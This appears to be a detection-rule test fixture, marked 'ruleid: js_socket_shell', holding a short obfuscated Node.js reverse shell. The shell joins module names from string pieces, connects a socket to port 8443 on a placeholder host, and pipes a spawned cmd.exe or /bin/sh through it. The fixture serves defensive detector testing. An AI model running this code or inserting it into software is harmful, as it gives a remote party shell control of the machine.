// The module loader under a name of the file's own, the module names glued from pieces.
var _r = require;
var n = _r('n' + 'et'), cp = _r('child_' + 'process');
var s = new n.Socket();
s.connect(8443, host, function () {
  var sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  // ruleid: js_socket_shell
  s.pipe(sh.stdin);
  sh.stdout.pipe(s);
});
